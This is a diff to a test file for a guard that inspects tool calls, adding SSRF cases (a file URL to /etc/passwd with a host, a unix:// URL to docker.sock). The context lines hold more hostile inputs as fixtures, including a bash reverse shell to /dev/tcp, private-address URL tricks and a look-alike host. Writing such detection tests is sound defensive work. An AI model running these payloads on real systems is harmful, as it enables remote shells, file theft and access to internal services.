@@ -43,6 +43,8 @@ describe('before: what reaches a place is inspected for that place', () => {
     ['a private address behind userinfo', 'http.fetch', { url: 'http://api.partner.example:80@10.0.0.7:8080/admin', method: 'GET' }, 'ssrf'],
     ['a name that stands for a private address', 'http.fetch', { url: 'http://10.0.0.5.resolver.example/', method: 'GET' }, 'ssrf'],
     ['a file URL', 'http.fetch', { url: 'file:///etc/passwd', method: 'GET' }, 'ssrf'],
+    ['a file URL with a known host', 'http.fetch', { url: 'file://api.partner.example/etc/passwd', method: 'GET' }, 'ssrf'],
+    ['a scheme that only some fetchers know', 'http.fetch', { url: 'unix://api.partner.example/run/docker.sock', method: 'GET' }, 'ssrf'],
     ['userinfo that passes for the host', 'http.fetch', { url: 'https://corp.example@drop.net/', method: 'GET' }, 'look-alike'],
     ['a host of mixed scripts', 'http.fetch', { url: 'https://раypal.example/', method: 'GET' }, 'look-alike'],
     ['a connection from the shell', 'shell.exec', { command: 'bash -i >& /dev/tcp/1.2.3.4/99 0>&1' }, 'shell-injection'],
